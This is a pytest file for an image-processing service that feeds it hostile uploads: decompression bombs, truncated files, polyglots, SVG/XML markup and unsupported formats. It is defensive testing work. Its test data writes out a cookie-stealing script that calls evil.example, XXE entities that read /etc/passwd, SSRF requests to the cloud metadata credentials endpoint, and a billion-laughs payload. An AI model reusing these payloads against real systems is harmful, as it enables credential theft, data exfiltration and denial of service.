"""Hostile and awkward uploads (issue 5): one malicious or broken file must never crash the runtime, hang, exhaust
memory, loop, or touch the original.

Every input is generated here (or in tests/images.py), deterministically, and rendered in a fresh interpreter fenced
by `sandbox.py`: an address-space limit and a wall-clock kill, so a crash or a runaway allocation fails one test
instead of the run. Each case expects one outcome, a typed `ImageError` subclass or a correct image, and every
outcome must also stay within what the issue allows a render: 2 s of wall-clock and CPU time, 256 MB resident, no
file or network I/O, the input bytes intact, and (for an image) output bytes freshly encoded, carrying nothing of the
input's metadata or payload.


This file: bombs, truncation, not-an-image, polyglots, markup and formats outside the allow-list. The rest by kind
of input: test_hostile_structure.py, test_hostile_metadata.py, test_hostile_threads.py; the checks every outcome
meets: hostile_checks.py.
"""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from functools import cache
from typing import TYPE_CHECKING, Any

import pytest
from PIL import Image

if TYPE_CHECKING:
    from tests import images
    from tests.hostile import sandbox
    from tests.images import BLUE, RED
else:
    import sandbox

    import images
    from images import BLUE, RED

if TYPE_CHECKING:
    from tests.hostile.hostile_checks import (
        DECODE,
        LIMIT,
        OK,
        SMALL_RSS,
        UNSUPPORTED,
        Factory,
        _after_sos_header,
        _patched,
        arrow_gif,
        arrow_jpeg,
        arrow_png,
        arrow_webp,
        check,
        expected_size,
        flat,
    )
else:
    from hostile_checks import (
        DECODE,
        LIMIT,
        OK,
        SMALL_RSS,
        UNSUPPORTED,
        Factory,
        _after_sos_header,
        _patched,
        arrow_gif,
        arrow_jpeg,
        arrow_png,
        arrow_webp,
        check,
        expected_size,
        flat,
    )


# --- decompression bombs ----------------------------------------------------------------------------------------


@cache
def big_jpeg(subsampling: str, progressive: bool) -> bytes:
    # One flat colour: 7000x7000 (49 MP, under the default 50 MP limit) in a file of a few hundred KB.
    return images.jpeg(flat((7000, 7000)), subsampling=subsampling, progressive=progressive)  # type: ignore[arg-type]


def animated_webp(size: tuple[int, int]) -> bytes:
    frames = [Image.new("RGB", size, RED), Image.new("RGB", size, BLUE)]
    return images.encode(frames[0], "WEBP", save_all=True, append_images=frames[1:], lossless=True, duration=100)


BOMBS = [
    # Declared sizes refused from the header, before any allocation: a small resident set proves it.
    pytest.param(lambda: images.png_bomb(100_000, 100_000), LIMIT, "100000x100000", SMALL_RSS, id="png-100000x100000"),
    # A real zlib bomb: 300 KB of IDAT inflating to 300 MB. 10^8 pixels is over the 5*10^7 default.
    pytest.param(
        lambda: images.png_zlib_bomb(10_000, 10_000),
        LIMIT,
        "10000x10000 = 100000000 pixels",
        SMALL_RSS,
        id="png-zlib-10000x10000",
    ),
    pytest.param(
        lambda: images.jpeg_with_sof(arrow_jpeg(), 0xC0, size=(65_500, 65_500)),
        LIMIT,
        "65500x65500",
        SMALL_RSS,
        id="jpeg-65500x65500",
    ),
    pytest.param(
        lambda: images.jpeg_with_sof(arrow_jpeg(), 0xC0, size=(65_535, 65_535)),
        LIMIT,
        "65500 pixels",
        SMALL_RSS,
        id="jpeg-65535x65535",
    ),
    pytest.param(
        lambda: _patched(arrow_gif(), 6, struct.pack("<HH", 65_535, 65_535)),
        LIMIT,
        "65535x65535",
        SMALL_RSS,
        id="gif-screen-65535x65535",
    ),
    pytest.param(
        lambda: _patched(
            arrow_gif((50, 40)),
            arrow_gif((50, 40)).index(b"\x2c\0\0\0\0\x32\0\x28\0") + 5,
            struct.pack("<HH", 65_535, 65_535),
        ),
        LIMIT,
        "^GIF: the first frame is 65535x65535",
        SMALL_RSS,
        id="gif-frame-65535x65535",
    ),
    # The IDAT inflates to 2 GB for a 1000x1000 image: the decoder must stop at the declared size, not inflate on.
    pytest.param(
        lambda: images.png_zlib_bomb(1000, 1000, inflated=2_000_000_000), OK, None, SMALL_RSS, id="png-idat-2GB-for-1MP"
    ),
    # 49 MP, just under the pixel limit, each from a file of 2 KB to 1.3 MB: decoded within time and memory, or
    # refused as over the memory budget (see decode/mod.rs) — never over 256 MB.
    pytest.param(lambda: images.png_zlib_bomb(7000, 7000, 2), OK, None, None, id="png-zlib-7000x7000-rgb"),
    pytest.param(lambda: images.png_zlib_bomb(7000, 7000, 0), OK, None, None, id="png-zlib-7000x7000-grey"),
    pytest.param(
        lambda: images.png_zlib_bomb(
            7000, 7000, 3, chunks=[images.png_chunk(b"PLTE", bytes(RED)), images.png_chunk(b"tRNS", b"\xff")]
        ),
        OK,
        None,
        None,
        id="png-zlib-7000x7000-rgba-opaque",
    ),
    pytest.param(
        lambda: images.png_zlib_bomb(7000, 7000, 6),
        LIMIT,
        "with transparency would take 392 MB",
        None,
        id="png-zlib-7000x7000-rgba-transparent",
    ),
    pytest.param(
        lambda: images.png_zlib_bomb(7000, 7000, 4),
        LIMIT,
        "with transparency",
        None,
        id="png-zlib-7000x7000-grey-alpha",
    ),
    pytest.param(lambda: images.gif([flat((7000, 7000), "P")]), OK, None, None, id="gif-lzw-7000x7000"),
    pytest.param(lambda: images.webp(flat((7000, 7000)), lossless=False), OK, None, None, id="webp-lossy-7000x7000"),
    pytest.param(
        lambda: images.webp(flat((7000, 7000)), lossless=True),
        LIMIT,
        "^WebP: decoding 7000x7000 would take 343 MB",
        SMALL_RSS,
        id="webp-lossless-7000x7000",
    ),
    pytest.param(
        lambda: images.webp(flat((7000, 7000), "RGBA", alpha=100), lossless=False),
        LIMIT,
        "^WebP: decoding 7000x7000",
        SMALL_RSS,
        id="webp-lossy-alpha-7000x7000",
    ),
    # AVIF: the ispe box is checked before the AV1 decoder runs (whose own frame-size limit is ispe's area).
    pytest.param(
        lambda: _patched(
            images.encode(flat((64, 48)), "AVIF"),
            images.encode(flat((64, 48)), "AVIF").index(b"ispe") + 8,
            struct.pack(">II", 65_535, 65_535),
        ),
        LIMIT,
        "^image is 65535x65535",
        SMALL_RSS,
        id="avif-ispe-65535x65535",
    ),
    # Animated WebP: image-webp composes frames on a canvas of its own, ~11 bytes a pixel at its peak.
    pytest.param(lambda: animated_webp((4000, 4000)), OK, None, None, id="webp-animated-4000x4000"),
    pytest.param(
        lambda: animated_webp((5000, 5000)), LIMIT, "^WebP: decoding 5000x5000", SMALL_RSS, id="webp-animated-5000x5000"
    ),
    pytest.param(lambda: big_jpeg("4:2:0", False), OK, None, SMALL_RSS, id="jpeg-7000x7000-baseline"),
    # Progressive: libjpeg keeps every coefficient (6 bytes a pixel at 4:4:4, 3 at 4:2:0) until the last scan.
    pytest.param(lambda: big_jpeg("4:2:0", True), OK, None, None, id="jpeg-7000x7000-progressive-420"),
    pytest.param(
        lambda: big_jpeg("4:4:4", True),
        LIMIT,
        "^JPEG: decoding would exceed the memory limit",
        SMALL_RSS,
        id="jpeg-7000x7000-progressive-444",
    ),
]


@pytest.mark.parametrize(("factory", "kind", "message", "max_rss"), BOMBS)
def test_decompression_bomb(factory: Factory, kind: str, message: str | None, max_rss: int | None) -> None:
    outcome = sandbox.run(factory())
    check(outcome, kind, message, max_rss=max_rss or sandbox.MAX_RSS_BYTES)
    if kind == OK:
        source = (outcome.facts["source_width"], outcome.facts["source_height"])
        assert (outcome.facts["width"], outcome.facts["height"]) == expected_size(*source, "thumbnail")


# --- truncated files ----------------------------------------------------------------------------------------------


TRUNCATED = [
    *(
        pytest.param(
            lambda p=progressive, c=cut: c(arrow_jpeg(progressive=p)),
            DECODE,
            "^JPEG: Premature end",
            id=f"jpeg-{name}-{kind}",
        )
        for progressive, kind in ((False, "baseline"), (True, "progressive"))
        for name, cut in (
            ("half", lambda d: d[: len(d) // 2]),
            ("after-SOS", lambda d: d[: _after_sos_header(d)]),
            ("no-EOI", lambda d: d[:-2]),
        )
    ),
    pytest.param(
        lambda: big_jpeg("4:2:0", False)[: _after_sos_header(big_jpeg("4:2:0", False)) + 100],
        DECODE,
        "^JPEG: Premature end",
        id="jpeg-7000x7000-after-SOS",
    ),
    pytest.param(lambda: arrow_png()[: len(arrow_png()) // 2], DECODE, "^PNG: unexpected end of file", id="png-half"),
    pytest.param(lambda: arrow_png()[:-12], DECODE, "^PNG: unexpected end of file", id="png-no-IEND"),
    pytest.param(lambda: arrow_png()[:33], DECODE, "^PNG: unexpected end of file", id="png-header-only"),
    pytest.param(lambda: images.png_zlib_bomb(7000, 7000)[:70_000], DECODE, "^PNG: ", id="png-7000x7000-half"),
    pytest.param(lambda: arrow_webp()[: len(arrow_webp()) // 2], DECODE, "^WebP: ", id="webp-half"),
    pytest.param(lambda: arrow_gif()[: len(arrow_gif()) // 2], DECODE, "^GIF: ", id="gif-half"),
]


@pytest.mark.parametrize(("factory", "kind", "message"), TRUNCATED)
def test_truncated(factory: Factory, kind: str, message: str) -> None:
    check(sandbox.run(factory()), kind, message)


# --- empty, not an image, magic numbers only ----------------------------------------------------------------------


NOT_IMAGES = [
    pytest.param(b"", "upload.jpg", DECODE, r"^input is empty \(0 bytes\)$", id="zero-bytes"),
    pytest.param(b"\0" * 4096, "upload.jpg", UNSUPPORTED, "starts with 00 00 00 00", id="4096-nul-bytes"),
    pytest.param(
        b"Hello, this is a listing description.\n",
        "photo.jpg",
        UNSUPPORTED,
        "starts with 48 65 6c 6c",
        id="text-as-jpg",
    ),
    pytest.param(
        b"<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>",
        "photo.png",
        UNSUPPORTED,
        "^HTML",
        id="html-as-png",
    ),
    pytest.param(b'{"photo": "front.jpg"}', "photo.gif", UNSUPPORTED, "not a supported image", id="json-as-gif"),
    pytest.param(
        b"\x00" + random.Random(5).randbytes(100_000),
        "photo.webp",
        UNSUPPORTED,
        "not a supported image",
        id="random-as-webp",
    ),
    pytest.param(b"\xff\xd8\xff", "photo.jpg", DECODE, "^JPEG: ", id="jpeg-magic-only"),
    pytest.param(b"\xff\xd8\xff\xe0", "photo.jpg", DECODE, "^JPEG: ", id="jpeg-magic-and-app0"),
    pytest.param(b"\xff\xd8", "photo.jpg", UNSUPPORTED, "not a supported image", id="half-jpeg-magic"),
    pytest.param(images.PNG_SIGNATURE, "photo.png", DECODE, "^PNG: ", id="png-signature-only"),
    pytest.param(b"RIFF\0\0\0\0WEBP", "photo.webp", DECODE, "^WebP: ", id="webp-riff-only"),
    pytest.param(b"GIF89a", "photo.gif", DECODE, "^GIF: ", id="gif-magic-only"),
]


@pytest.mark.parametrize(("data", "filename", "kind", "message"), NOT_IMAGES)
def test_not_an_image(data: bytes, filename: str, kind: str, message: str) -> None:
    check(sandbox.run(data, filename=filename), kind, message, max_rss=SMALL_RSS)


def test_sniffed_by_bytes_not_by_name() -> None:
    # A JPEG called .png and a PNG called .jpg: each is read as what its bytes are.
    jpeg_named_png = sandbox.run(arrow_jpeg(), filename="photo.png")
    check(jpeg_named_png, OK)
    assert jpeg_named_png.facts["source_format"] == "jpeg"
    png_named_jpg = sandbox.run(arrow_png(), filename="photo.jpg")
    check(png_named_jpg, OK)
    assert png_named_jpg.facts["source_format"] == "png"


# --- polyglots ----------------------------------------------------------------------------------------------------

SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"


def jpeg_then_zip() -> bytes:
    buf = io.BytesIO(arrow_jpeg())
    buf.seek(0, io.SEEK_END)
    # Appending a ZIP to another file is what zipfile's "a" mode does to a non-ZIP: a valid JPEG and a valid ZIP.
    with zipfile.ZipFile(buf, "a") as z:
        z.writestr("payload.html", SCRIPT)
    data = buf.getvalue()
    assert zipfile.is_zipfile(io.BytesIO(data))
    return data


POLYGLOTS = [
    pytest.param(jpeg_then_zip, "jpeg", [b"PK\x03\x04", b"payload.html", b"<script"], id="jpeg+zip"),
    pytest.param(
        lambda: arrow_png() + b"<html><body>" + SCRIPT + b"</body></html>", "png", [b"<script", b"<html"], id="png+html"
    ),
    pytest.param(
        lambda: images.png_with_chunks(arrow_png(), [images.png_chunk(b"tEXt", b"Comment\0<html>" + SCRIPT)]),
        "png",
        [b"<script", b"Comment"],
        id="png-html-in-tEXt",
    ),
    pytest.param(lambda: images.gif_js_polyglot(b"alert(document.domain);"), "gif", [b"alert", b"/*"], id="gif-js"),
    pytest.param(
        lambda: images.encode(images.arrow_picture((600, 400)), "JPEG", comment=SCRIPT),
        "jpeg",
        [b"<script"],
        id="jpeg-script-in-COM",
    ),
    pytest.param(
        lambda: images.jpeg_with_segments(
            arrow_jpeg(),
            [
                images.jpeg_segment(
                    0xE1,
                    b"http://ns.adobe.com/xap/1.0/\0"
                    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
                    b'<!ENTITY ssrf SYSTEM "http://169.254.169.254/latest/meta-data/">]>'
                    b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>&xxe;&ssrf;</x:xmpmeta>",
                )
            ],
        ),
        "jpeg",
        [b"ENTITY", b"xmpmeta"],
        id="jpeg-xmp-with-xxe",
    ),
    pytest.param(lambda: arrow_webp() + b"PK\x03\x04" + SCRIPT, "webp", [b"PK\x03\x04", b"<script"], id="webp+trailer"),
]


@pytest.mark.parametrize("format", ["jpeg", "webp"])
@pytest.mark.parametrize(("factory", "source_format", "payload"), POLYGLOTS)
def test_polyglot_renders_as_the_image_it_starts_as(
    factory: Factory, source_format: str, payload: list[bytes], format: str
) -> None:
    data = factory()
    outcome = sandbox.run(data, format=format)
    check(outcome, OK)
    assert outcome.facts["source_format"] == source_format
    assert outcome.output != data
    for needle in payload:
        assert needle in data
        assert needle not in outcome.output, f"{needle!r} was carried into the output"


# --- markup: refused by magic bytes, never parsed -------------------------------------------------------------------

XXE = b'<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
SSRF = b'<image href="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="10" height="10"/>'

MARKUP = [
    pytest.param(b"<svg xmlns='http://www.w3.org/2000/svg'>" + SSRF + b"</svg>", "SVG/XML", id="svg-ssrf"),
    pytest.param(b'<?xml version="1.0"?>\n' + XXE + b"<svg>&xxe;</svg>", "SVG/XML", id="svg-xxe"),
    pytest.param(b"\n\t  <svg onload='alert(1)'/>", "SVG/XML", id="svg-leading-whitespace"),
    pytest.param(
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b'<!ENTITY lol2 "&lol;&lol;&lol;">' * 10
        + b"]><lolz>&lol2;</lolz>",
        "SVG/XML",
        id="xml-billion-laughs",
    ),
    pytest.param(b"<!doctype html><html><script>alert(1)</script></html>", "HTML", id="html"),
    pytest.param(b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', "HTML", id="xhtml"),
    pytest.param(b"\xef\xbb\xbf<?xml version='1.0'?><svg/>", "not a supported image", id="xml-with-utf8-bom"),
    pytest.param("<?xml version='1.0'?><svg/>".encode("utf-16"), "not a supported image", id="xml-utf16"),
    pytest.param(b"\x1f\x8b\x08\x00" + zlib.compress(b"<svg/>"), "not a supported image", id="svgz"),
]


@pytest.mark.parametrize(("data", "named"), MARKUP)
def test_markup_is_refused_unparsed(data: bytes, named: str) -> None:
    outcome = sandbox.run(data, filename="photo.svg")
    # Sniffed from the first bytes: refused in well under a millisecond, with no file or network access (check()
    # asserts no read/write system call at all happened during the render).
    check(outcome, UNSUPPORTED, re.escape(named), max_rss=SMALL_RSS, max_seconds=0.1)


# --- formats outside the allow-list ---------------------------------------------------------------------------------


def pillow(fmt: str, mode: str = "RGB", **params: Any) -> Factory:
    return lambda: images.encode(images.arrow_picture((64, 48)).convert(mode), fmt, **params)


OTHER_FORMATS = [
    pytest.param(pillow("TIFF"), "^TIFF input is not supported$", id="tiff"),
    pytest.param(pillow("TIFF", compression="tiff_lzw"), "^TIFF", id="tiff-lzw"),
    pytest.param(pillow("BMP"), "^BMP input is not supported$", id="bmp"),
    pytest.param(pillow("ICO"), "^ICO input is not supported$", id="ico"),
    pytest.param(pillow("PDF"), "^PDF input is not supported$", id="pdf"),
    pytest.param(lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 64, "^HEIF/HEIC input", id="heic"),
    pytest.param(lambda: b"\0\0\0\x0cJXL \r\n\x87\n" + b"\0" * 64, "^JPEG XL", id="jxl-container"),
    pytest.param(lambda: b"\xff\x0a" + b"\0" * 64, "^JPEG XL", id="jxl-codestream"),
    pytest.param(lambda: b"8BPS\0\x01" + b"\0" * 64, "^PSD", id="psd"),
    pytest.param(pillow("JPEG2000"), "not a supported image", id="jpeg2000-codestream"),
    pytest.param(pillow("JPEG2000", no_jp2=False), "not a supported image", id="jp2"),
    pytest.param(pillow("PPM"), "not a supported image", id="ppm"),
    pytest.param(pillow("PCX"), "not a supported image", id="pcx"),
    pytest.param(pillow("TGA"), "not a supported image", id="tga"),
    pytest.param(pillow("QOI"), "not a supported image", id="qoi"),
    pytest.param(pillow("SGI"), "not a supported image", id="sgi"),
    pytest.param(pillow("DDS", "RGBA"), "not a supported image", id="dds"),
    pytest.param(pillow("EPS"), "not a supported image", id="eps"),
    pytest.param(pillow("ICNS"), "not a supported image", id="icns"),
]


@pytest.mark.parametrize(("factory", "message"), OTHER_FORMATS)
def test_format_outside_the_allow_list_is_unsupported(factory: Factory, message: str) -> None:
    check(sandbox.run(factory(), filename="photo.jpg"), UNSUPPORTED, message, max_rss=SMALL_RSS, max_seconds=0.1)
